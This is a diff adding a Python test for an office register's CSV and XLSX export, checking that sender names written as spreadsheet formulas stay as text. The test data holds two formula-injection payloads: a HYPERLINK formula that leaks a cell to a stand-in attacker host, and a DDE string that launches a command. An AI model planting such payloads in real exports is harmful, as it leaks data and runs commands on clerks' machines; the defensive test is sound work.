@@ -135,3 +135,20 @@ def test_a_reversed_range_is_refused(client, office):
     response = client.get(URL, params(date_from=(today + timedelta(days=1)).strftime("%d/%m/%Y")))
     assert response.status_code == 200
     assert "Ngày kết thúc" in response.content.decode()
+
+
+def test_a_formula_in_a_sender_stays_text_in_csv_and_xlsx(client, office, register):
+    """A sender typed as a spreadsheet formula must not run in the clerk's Excel."""
+    register(n=1, sender='=HYPERLINK("http://ke-xau.example/?"&A1,"Bấm vào")')
+    register(n=2, sender="@SUM(1+1)*cmd|' /C calc'!A0")
+    client.force_login(office["chief"])
+    csv_text = client.get(URL, params(output="csv")).content.decode("utf-8-sig")
+    assert ",\"'=HYPERLINK(" in csv_text
+    assert ",'@SUM(1+1)" in csv_text
+    assert ',"=HYPERLINK' not in csv_text and ",@SUM" not in csv_text
+
+    workbook = load_workbook(io.BytesIO(client.get(URL, params(output="xlsx")).content))
+    cells = [cell for row in workbook.active.iter_rows() for cell in row if cell.value]
+    summary = next(cell for cell in cells if "HYPERLINK" in str(cell.value))
+    assert summary.data_type == "s"
+    assert summary.value.startswith("=HYPERLINK(")
